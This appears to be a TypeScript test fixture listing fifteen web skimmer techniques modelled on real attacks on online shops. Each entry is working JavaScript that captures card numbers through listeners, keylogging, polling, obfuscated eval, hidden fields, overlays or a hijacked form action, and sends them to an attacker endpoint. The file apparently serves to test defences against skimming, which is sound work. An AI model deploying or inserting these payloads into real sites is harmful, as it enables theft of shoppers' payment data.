/** Skimmers of the kinds that were found on real shops, each by what makes it different. */
import type { CodeAttack } from '../attack.ts';

const skimmer = (
  id: string,
  tries: string,
  code: string,
  rest: Partial<CodeAttack> = {},
): CodeAttack => ({
  kind: 'code',
  family: 'skimmer',
  held: 'host',
  succeeds: 'card',
  id,
  tries,
  code,
  ...rest,
});

export const SKIMMERS: readonly CodeAttack[] = [
  skimmer(
    'skim-submit',
    'listens to the form being sent, and sends a copy by beacon',
    `for (const one of documents) one.addEventListener('submit', () => navigator.sendBeacon(to(), new URLSearchParams(new FormData(page().querySelector('form#checkout')))), true);`,
    { submits: true },
  ),
  skimmer(
    'skim-input',
    'listens to every field, and posts it in base64 with every key',
    `for (const one of documents) one.addEventListener('input', ({ target }) => send(btoa(target.name + '=' + target.value)), true);`,
  ),
  skimmer(
    'skim-keys',
    'logs keys, and sends them together with the field that they went to',
    `let keys = ''; for (const one of documents) one.addEventListener('keydown', ({ key, target }) => { keys += key.length === 1 ? key : ''; if (/card-(number|cvc)/.test(target.name)) send(keys); }, true);`,
  ),
  skimmer(
    'skim-blur',
    'waits until a field is left, and sends it then',
    `for (const one of documents) one.addEventListener('focusout', ({ target }) => send(target.name + ': ' + target.value), true);`,
    { controlIn: ['chromium'] },
  ),
  skimmer(
    'skim-poll',
    'reads all fields again and again, with no listener that could be found',
    `setInterval(() => { const all = [...(page()?.querySelectorAll('input') ?? [])].map(({ name, value }) => name + '=' + value).join('&'); if (/\\d{16}|\\d{4} \\d{4} \\d{4} \\d{4}/.test(all)) send(encodeURIComponent(all)); }, 120);`,
  ),
  skimmer(
    'skim-mutation',
    'watches the page for card fields with a MutationObserver, and hooks each that comes',
    `const hook = () => { for (const input of page()?.querySelectorAll('[autocomplete^=cc-]:not([data-hooked])') ?? []) { input.dataset.hooked = 1; input.addEventListener('input', () => send(input.autocomplete + '=' + input.value)); } };
     for (const one of documents) new MutationObserver(hook).observe(one, { subtree: true, childList: true, attributes: true }); hook();`,
  ),
  skimmer(
    'skim-obfuscated',
    'hides its code in base64, runs it by eval, and its loot by XOR',
    `eval(atob('${Buffer.from(
      `whenCard((card) => send('xor:' + btoa([...card].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 90)).join(''))))`,
    ).toString('base64')}'));`,
    {
      decode: (arrived) =>
        [...arrived.matchAll(/xor:([\w+/=]+)/g)]
          .map(([, text = '']) =>
            Buffer.from(Buffer.from(text, 'base64').map((byte) => byte ^ 90)).toString('latin1'),
          )
          .join('\n'),
    },
  ),
  skimmer(
    'skim-delayed',
    'sleeps, and wakes only after the card is complete and the page quiet',
    `whenCard((card) => new Promise((resolve) => setTimeout(resolve, 400)).then(() => globalThis.requestIdleCallback ? requestIdleCallback(() => send(card), { timeout: 500 }) : send(card)));`,
  ),
  skimmer(
    'skim-staged',
    "keeps its loot in the shop's storage first, and carries it away later",
    `whenCard((card) => { localStorage.setItem('_ga_x', btoa(card)); setTimeout(() => { send(localStorage.getItem('_ga_x')); localStorage.removeItem('_ga_x'); }, 200); });`,
  ),
  skimmer(
    'skim-split',
    'carries the number away digit by digit, in many small requests out of order',
    `whenCard((card) => { [...card].map((digit, place) => ({ digit, place })).reverse().forEach(({ digit, place }, index) => setTimeout(() => { new Image().src = to('/p?d' + place + '=' + digit); }, index * 10)); });`,
    {
      decode: (arrived) =>
        [...arrived.matchAll(/\?d(\d+)=([^\s])/g)]
          .map(([, place, digit = '']) => ({ place: Number(place), digit }))
          .sort((a, b) => a.place - b.place)
          .map(({ digit }) => digit)
          .join(''),
    },
  ),
  skimmer(
    'skim-autofill',
    'adds fields that nobody sees, for the browser or the visitor to fill in',
    `const form = page()?.querySelector('form#checkout') ?? document.body; const hidden = add('input', { name: 'cc', autocomplete: 'cc-number', tabIndex: -1 }, form); hidden.style.cssText = 'position:absolute;opacity:0;inline-size:1px';
     whenCard((card) => { hidden.value = card; send(hidden.autocomplete + '=' + hidden.value); });`,
  ),
  skimmer(
    'skim-sniff',
    "listens to the messages between the page's windows",
    `for (const view of [window, parent, top]) try { view.addEventListener('message', ({ data }) => { if (data?.typed) send(data.typed); }); } catch {}
     whenCard((card) => { for (const view of [window, parent, top]) view.postMessage({ typed: documents.includes(view.document) ? card : '' }, '*'); });`,
  ),
  skimmer(
    'skim-form-action',
    "points the shop's own form at the attacker's host",
    `for (const form of page()?.forms ?? document.forms) { form.method = 'post'; form.action = to('/checkout'); }`,
    { alone: true, submits: true },
  ),
  skimmer(
    'skim-overlay',
    'lays a payment form of its own over the true one',
    `const cover = add('div', { id: 'cover' }, (page() ?? document).body); cover.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:#fff'; const input = add('input', { placeholder: 'Card number' }, cover); input.style.cssText = 'position:absolute;inset:0;width:100%;height:100%'; input.oninput = () => send(input.value);`,
    { alone: true },
  ),
  skimmer(
    'skim-replace',
    'takes the true form away and puts a frame of its own in its place',
    `const form = page()?.querySelector('form#checkout'); whenCard((card) => { const frame = document.createElement('iframe'); frame.src = to('/frame?c=' + card); (form ?? document.body.firstElementChild ?? document.body).replaceWith?.(frame); if (!frame.isConnected) document.body.append(frame); });`,
    { alone: true },
  ),
];
